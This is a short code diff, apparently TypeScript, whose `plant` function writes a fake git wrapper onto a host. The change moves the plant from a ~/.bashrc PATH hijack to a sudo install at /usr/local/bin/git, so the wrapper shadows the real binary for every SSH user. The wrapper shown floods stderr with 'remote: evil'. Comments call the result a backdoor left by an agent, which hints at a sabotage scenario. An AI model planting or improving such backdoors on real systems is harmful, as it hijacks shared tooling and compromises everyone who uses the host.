@@ -38,9 +38,9 @@ for a; do [ "$a" = upload-pack ] && { yes "remote: evil" | head -c 60000000 >&2;
 exec /usr/bin/git "$@"
 `
 
+/** Whoever comes over SSH, Nexus too, finds it first. */
 const plant = (git: string) =>
-  `mkdir -p ~/e && printf %s "$1" > ~/e/git && chmod +x ~/e/git
-   grep -q HOME/e ~/.bashrc || { printf 'export PATH=$HOME/e:$PATH\\n' | cat - ~/.bashrc > ~/b && mv ~/b ~/.bashrc; }
+  `printf %s "$1" | sudo tee /usr/local/bin/git > /dev/null && sudo chmod 755 /usr/local/bin/git
    ${git}`
 
 /** What an agent leaves, beside the backdoor. */
